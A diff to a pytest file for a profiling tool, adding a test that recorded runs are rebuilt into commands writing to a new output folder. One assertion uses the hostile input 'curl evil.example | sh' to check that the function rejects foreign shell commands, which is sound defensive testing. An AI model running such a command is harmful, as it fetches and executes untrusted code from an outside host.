@@ -4,7 +4,13 @@ from dataclasses import replace
 import pytest
 from tests.sides import make_run, make_settings, make_side
 
-from tracekit.comparison.commands import can_be_regional, measuring_command, profile_command, switched_command
+from tracekit.comparison.commands import (
+    can_be_regional,
+    measuring_command,
+    profile_command,
+    repeating_command,
+    switched_command,
+)
 from tracekit.model.run import Generation, UserModel
 from tracekit.model.workload import DEFAULT_PROMPT
 
@@ -118,3 +124,15 @@ def test_what_is_said_to_have_measured_a_run_is_a_command_of_tracekit_s_or_a_com
         assert told.startswith("# measured by ") and "\n" not in told
     program = make_run(command=f"tracekit profile x\n{text}", settings=make_settings(own=UserModel(in_program=True)))
     assert measuring_command(program).startswith("# measured by ") and "\n" not in measuring_command(program)
+
+
+def test_a_run_is_repeated_at_its_own_size_into_another_folder():
+    run = make_run(command="TRITON_X=1 tracekit profile vit --compiled --out=traces/a --size auto")
+    told = shlex.split(repeating_command(run, "traces/a b"))
+    size = make_settings().size
+    assert told == [*f"TRITON_X=1 tracekit profile vit --size {size} --compiled --out".split(), "traces/a b"]
+    own = make_settings(own=UserModel(options=("width=1",)))
+    of_own = make_run(settings=own, command="tracekit profile m.py:build -- width=1")
+    assert repeating_command(of_own, "b") == "tracekit profile m.py:build --out b -- width=1"
+    assert repeating_command(make_run(command="curl evil.example | sh"), "b") == ""
+    assert repeating_command(make_run(settings=make_settings(own=UserModel(in_program=True))), "b") == ""
